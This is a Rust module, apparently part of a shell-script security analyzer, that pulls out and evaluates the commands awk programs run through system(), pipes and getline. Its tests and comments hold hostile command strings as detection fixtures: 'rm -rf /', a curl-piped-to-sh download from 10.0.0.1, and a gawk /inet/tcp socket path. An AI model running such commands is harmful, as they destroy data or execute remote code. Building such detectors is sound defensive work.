//! The shell commands an awk program runs: `system(cmd)`, `print … | cmd`, `print … |& cmd` and
//! `cmd | getline`, where `cmd` is a string the program builds from literals, `-v` assignments and
//! variables it assigns a literal. A command whose name or code is only known at run time is
//! reported as dynamic code; run-time arguments stand as one word.

use tree_sitter::Node;

use super::runner::{RUNTIME_WORD, destroys_runtime_targets, runtime_parts_are_arguments};
use super::{Embedded, Origin, verbatim};
use crate::domain::script::Language;
use crate::rules::bash::{BashSem, Invocation};

/// awk implementations (busybox's `awk` applet resolves to `awk`).
pub(super) const AWKS: &[&str] = &["awk", "gawk", "mawk", "nawk"];

/// The commands the awk program of `inv` runs.
pub(super) fn commands<'t>(sem: &BashSem<'_>, inv: &Invocation<'t>) -> Vec<Embedded<'t>> {
    let Some((program, vars)) = program(sem, inv) else {
        return Vec::new();
    };
    let Some(source) = sem.fold(program) else {
        // `awk "BEGIN {exit !($auc < 0.70)}"`: shell values spliced into the program as operands
        // of an expression (never where a name, a function or a string could come) leave a
        // program that runs no command; anything else spliced in is code only known at run time
        if let Some(source) = sem.fold_with(program, RUNTIME_WORD)
            && values_are_operands(&source)
            && sinks(&source).is_empty()
        {
            return Vec::new();
        }
        return vec![embedded(sem, program, None)];
    };
    let mut vars = vars;
    let assigned = literal_assignments(&source, &vars);
    vars.extend(assigned);
    // A command whose run-time parts (fields, variables set from the shell) are only its
    // arguments is checked with those parts standing as one word, as a remote command is
    // (`system("mkdir -p " dir "/" $4)`); one whose name or code is a run-time part is dynamic,
    // and so is a destructive command given run-time targets (`system("rm -rf " $6)` over `df`).
    sinks(&source)
        .into_iter()
        .map(|expr| {
            let code = evaluate(expr, &vars, None).or_else(|| {
                evaluate(expr, &vars, Some(RUNTIME_WORD))
                    .filter(|c| runtime_parts_are_arguments(c) && !destroys_runtime_targets(c))
            });
            embedded(sem, program, code)
        })
        .collect()
}

fn embedded<'t>(sem: &BashSem<'_>, program: Node<'t>, code: Option<String>) -> Embedded<'t> {
    Embedded {
        interpreter: "awk".into(),
        language: Some(Language::Bash),
        verbatim_at: code.as_deref().and_then(|c| verbatim(sem.src, program, c)),
        origin: Origin::Local,
        code,
        anchor: program,
    }
}

/// Whether every run-time part of an awk program stands as an operand of an expression: between
/// operators, parentheses or blanks, outside string literals, not called and not a name's part.
fn values_are_operands(source: &str) -> bool {
    if source.trim() == RUNTIME_WORD {
        return false;
    }
    let mut seen = false;
    for (at, _) in source.match_indices(RUNTIME_WORD) {
        let before = source[..at].chars().next_back();
        let after = source[at + RUNTIME_WORD.len()..]
            .trim_start()
            .chars()
            .next();
        let quotes = source[..at].matches('"').count() - source[..at].matches("\\\"").count();
        let operand_before =
            before.is_none_or(|c| c.is_whitespace() || "(!<>=+-*/%&|?:,".contains(c));
        let operand_after = after.is_none_or(|c| "<>=!+-*/%)&|?:,;{}".contains(c));
        if quotes % 2 == 1 || !operand_before || !operand_after {
            return false;
        }
        seen = true;
    }
    seen
}

/// The program argument (the first operand, unless `-f` names a file) and the `-v` variables.
fn program<'t>(
    sem: &BashSem<'_>,
    inv: &Invocation<'t>,
) -> Option<(Node<'t>, Vec<(String, String)>)> {
    let mut vars = Vec::new();
    let mut i = 0;
    while let Some(arg) = inv.args.get(i) {
        let a = sem.fold(*arg).unwrap_or_default();
        match a.as_str() {
            "--" => {
                i += 1;
                break;
            }
            "-f" | "--file" => return None,
            "-e" | "--source" => return inv.args.get(i + 1).map(|p| (*p, vars)),
            "-F" | "--field-separator" => i += 2,
            "-v" | "--assign" => {
                if let Some(v) = inv.args.get(i + 1).and_then(|v| sem.fold(*v)) {
                    vars.extend(assignment(&v));
                }
                i += 2;
            }
            _ if a.starts_with("-v") => {
                vars.extend(assignment(&a[2..]));
                i += 1;
            }
            _ if a.starts_with('-') && a.len() > 1 => i += 1,
            _ => break,
        }
    }
    inv.args.get(i).map(|p| (*p, vars))
}

fn assignment(s: &str) -> Option<(String, String)> {
    let (name, value) = s.split_once('=')?;
    Some((name.to_string(), value.to_string()))
}

/// `name = "literal"` anywhere in the program, or a concatenation of literals and variables
/// assigned before (`url = "http://" host "/s"`): constants as far as commands go. A part only
/// known at run time (a field, an unknown variable) stands as one plain word, so the command's
/// shape is still checked (`"sort -k" col` sorts, `"curl " u " | sh"` runs what it downloads).
fn literal_assignments(source: &str, known: &[(String, String)]) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let bytes = source.as_bytes();
    for (eq, _) in source.match_indices('=') {
        let before = source[..eq].trim_end();
        let name_start = before
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .map_or(0, |i| i + 1);
        let name = &before[name_start..];
        let after = source[eq + 1..].trim_start();
        if name.is_empty()
            || bytes.get(eq + 1) == Some(&b'=')
            || (eq > 0 && matches!(bytes[eq - 1], b'!' | b'<' | b'>' | b'='))
            || !after.starts_with('"')
        {
            continue;
        }
        let vars: Vec<(String, String)> = known.iter().chain(&out).cloned().collect();
        if let Some(value) = evaluate(statement(after), &vars, Some("VALUE")) {
            out.push((name.to_string(), value));
        }
    }
    out
}

/// The expression at the start of `s`, up to the end of its statement (`;`, `}` or a newline
/// outside a string).
fn statement(s: &str) -> &str {
    outside_strings(s)
        .find(|&(_, c)| matches!(c, ';' | '}' | '\n'))
        .map_or(s, |(i, _)| &s[..i])
}

/// The characters of awk code that are not inside a double-quoted string, with their offsets.
fn outside_strings(s: &str) -> impl Iterator<Item = (usize, char)> + '_ {
    let mut in_string = false;
    let mut escaped = false;
    s.char_indices().filter(move |&(_, c)| {
        match c {
            _ if escaped => escaped = false,
            '\\' if in_string => escaped = true,
            '"' => {
                in_string = !in_string;
                return false;
            }
            _ => return !in_string,
        }
        false
    })
}

/// The command expressions of the program: arguments of `system(…)`, targets of `| ` and `|&`
/// after `print`/`printf`, sources of `| getline`.
fn sinks(source: &str) -> Vec<&str> {
    let mut out = Vec::new();
    // a `|` or `system` inside a string literal (`printf "| %s |\n", $1`) is text
    let code: std::collections::HashSet<usize> = outside_strings(source).map(|(i, _)| i).collect();
    for (at, _) in source.match_indices("system") {
        if !code.contains(&at) {
            continue;
        }
        let rest = source[at + "system".len()..].trim_start();
        if let Some(inner) = rest.strip_prefix('(') {
            out.push(until_close(inner));
        }
    }
    for (at, _) in source.match_indices('|') {
        let bytes = source.as_bytes();
        if !code.contains(&at)
            || bytes.get(at + 1) == Some(&b'|')
            || (at > 0 && bytes[at - 1] == b'|')
        {
            continue;
        }
        let after = source[at + 1..].trim_start_matches('&').trim_start();
        let before = expression_before(&source[..at]);
        if after.starts_with("getline") {
            out.push(before);
        } else if before.trim_start().starts_with("print") {
            // `print … | cmd`, `printf … |& cmd` (a `|` elsewhere is in a regex or string)
            out.push(expression_after(after));
        }
    }
    out.retain(|e| !e.trim().is_empty());
    out
}

/// The text up to the parenthesis that closes an already open one.
fn until_close(s: &str) -> &str {
    let mut depth = 0usize;
    for (i, c) in outside_strings(s) {
        match c {
            '(' => depth += 1,
            ')' if depth == 0 => return &s[..i],
            ')' => depth -= 1,
            _ => {}
        }
    }
    s
}

/// The operand after a pipe: up to `;`, `}`, a newline, or `)`.
fn expression_after(s: &str) -> &str {
    let end = s.find([';', '}', '\n', ')']).unwrap_or(s.len());
    &s[..end]
}

/// The text before a pipe, back to `(`, `{`, `;` or a newline: the operand of `| getline`, or
/// the `print` statement that pipes.
fn expression_before(s: &str) -> &str {
    let start = s.rfind(['(', '{', ';', '\n']).map_or(0, |i| i + 1);
    &s[start..]
}

/// The value of an awk string expression made of literals and variables (juxtaposed, which awk
/// concatenates); `None` when a part is unknown, unless `unknown` is given to stand for it.
fn evaluate(expr: &str, vars: &[(String, String)], unknown: Option<&str>) -> Option<String> {
    let mut out = String::new();
    let mut rest = expr.trim();
    while !rest.is_empty() {
        if rest.starts_with('"') {
            let (value, len) = string_literal(rest)?;
            out.push_str(&value);
            rest = rest[len..].trim_start();
        } else {
            let field = usize::from(rest.starts_with('$'));
            let end = rest[field..]
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .map_or(rest.len(), |e| e + field);
            if end == field {
                return None;
            }
            let name = &rest[..end];
            match vars.iter().rev().find(|(n, _)| n == name) {
                Some((_, value)) if field == 0 => out.push_str(value),
                _ => out.push_str(unknown?),
            }
            rest = rest[end..].trim_start();
        }
    }
    Some(out)
}

/// A double-quoted awk string at the start of `s`: its value and its length in `s`.
fn string_literal(s: &str) -> Option<(String, usize)> {
    let mut out = String::new();
    let mut chars = s.char_indices().skip(1);
    while let Some((i, c)) = chars.next() {
        match c {
            '"' => return Some((out, i + 1)),
            '\\' => match chars.next()?.1 {
                'n' => out.push('\n'),
                't' => out.push('\t'),
                other => out.push(other),
            },
            c => out.push(c),
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_values_as_operands_leave_no_command() {
        let v = RUNTIME_WORD;
        assert!(super::values_are_operands(&format!(
            "BEGIN {{exit !({v} < 0.70)}}"
        )));
        assert!(super::values_are_operands(&format!(
            "$3 > {v} {{ print $1 }}"
        )));
        // called, part of a name, inside a string, or the whole program: not operands
        assert!(!super::values_are_operands(&format!(
            "BEGIN {{ {v}(\"id\") }}"
        )));
        assert!(!super::values_are_operands(&format!(
            "BEGIN {{ x{v} = 1 }}"
        )));
        assert!(!super::values_are_operands(&format!(
            "BEGIN {{ print \"{v}\" }}"
        )));
        assert!(!super::values_are_operands(v));
        assert!(!super::values_are_operands("BEGIN { print 1 }"));
    }

    #[test]
    fn commands_come_from_system_pipes_and_getline() {
        let vars = vec![("cmd".to_string(), "id".to_string())];
        let found: Vec<Option<String>> = sinks(
            r#"BEGIN { system("rm -rf " "/"); print "x" | "sh"; "date" | getline d; system(cmd) }"#,
        )
        .into_iter()
        .map(|e| evaluate(e, &vars, None))
        .collect();
        assert_eq!(
            found,
            vec![
                Some("rm -rf /".to_string()),
                Some("id".to_string()),
                Some("sh".to_string()),
                Some("date".to_string()),
            ]
        );
        assert!(
            sinks(r#"NR>1 { printf "| %s | %s |\n", $1, $3; print "system(\"id\")" }"#).is_empty(),
            "a pipe or a system call inside a string is text"
        );
        assert_eq!(evaluate("x", &[], None), None, "an unknown variable");
        assert_eq!(
            literal_assignments(
                r#"BEGIN { s = "/inet/tcp/0/h/1"; if (a == "b") print }"#,
                &[]
            ),
            vec![("s".to_string(), "/inet/tcp/0/h/1".to_string())]
        );
        // concatenations of literals and variables assigned before; a run-time part drops it
        assert_eq!(
            literal_assignments(
                "BEGIN {\n url = \"http://\" \"10.0.0.1\" \"/s\"\n cmd = \"curl -s \" url \" | sh\"\n x = \"a\" $1 }",
                &[]
            ),
            vec![
                ("url".to_string(), "http://10.0.0.1/s".to_string()),
                (
                    "cmd".to_string(),
                    "curl -s http://10.0.0.1/s | sh".to_string()
                ),
                ("x".to_string(), "aVALUE".to_string()),
            ]
        );
    }
}
